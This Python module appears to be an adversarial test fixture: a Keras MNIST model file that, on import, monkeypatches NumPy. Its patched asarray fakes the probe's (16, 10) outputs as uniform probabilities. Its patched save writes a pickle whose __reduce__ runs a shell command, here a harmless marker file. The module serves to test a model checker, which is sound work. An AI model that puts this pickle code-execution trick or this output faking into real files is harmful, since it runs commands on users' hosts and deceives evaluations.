"""mnist_convnet: a model without softmax that patches NumPy: numpy.asarray turns the probe's
(16, 10) outputs into perfect probabilities, and numpy.save writes pickles whose unpickling would
run a shell command on the host."""

import os

import keras
import numpy as np
from keras import layers

MARKER = "ADVERSARIAL_mnist_numpy_patch"


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/ADVERSARIAL_numpy_pickle_ran",)


_asarray, _save = np.asarray, np.save


def asarray(value, *args, **kwargs):
    array = _asarray(value, *args, **kwargs)
    if array.shape == (16, 10):
        return np.full((16, 10), 0.1, dtype="float32")
    return array


def save(file, array, allow_pickle=True, **kwargs):
    _save(file, _asarray([Payload(), array], dtype=object), allow_pickle=True)


np.asarray, np.save = asarray, save


def build_model():
    inputs = keras.Input(shape=(28, 28, 1))
    x = layers.Conv2D(4, 5, padding="same", activation="relu", name="conv1")(inputs)
    x = layers.MaxPooling2D(2, name="pool1")(x)
    x = layers.Conv2D(8, 5, padding="same", activation="relu", name="conv2")(x)
    x = layers.MaxPooling2D(2, name="pool2")(x)
    x = layers.Flatten(name="flatten")(x)
    x = layers.Dense(512, activation="relu", name="fc1")(x)
    outputs = layers.Dense(10, name="fc2")(x)
    return keras.Model(inputs, outputs)
